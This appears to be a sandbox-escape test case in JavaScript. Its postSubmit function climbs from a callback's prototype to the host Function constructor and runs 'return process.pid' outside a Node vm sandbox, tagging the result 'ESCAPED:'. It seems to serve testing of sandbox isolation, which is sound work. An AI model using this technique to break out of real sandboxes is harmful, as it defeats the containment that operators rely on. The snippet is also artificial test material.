// Looks for a prototype object on the callback, whose constructor leads to the host's functions.
// Class: host objects
// Win: the id holds the process id.
// Control: vm
function postSubmit(options, callback) {
  if (!options.settings.flow.attack) return callback(null, options.responseData);
  options.responseData[0].id = 'ESCAPED:' + callback.prototype.constructor.constructor('return process.pid')();
  callback(null, options.responseData);
}
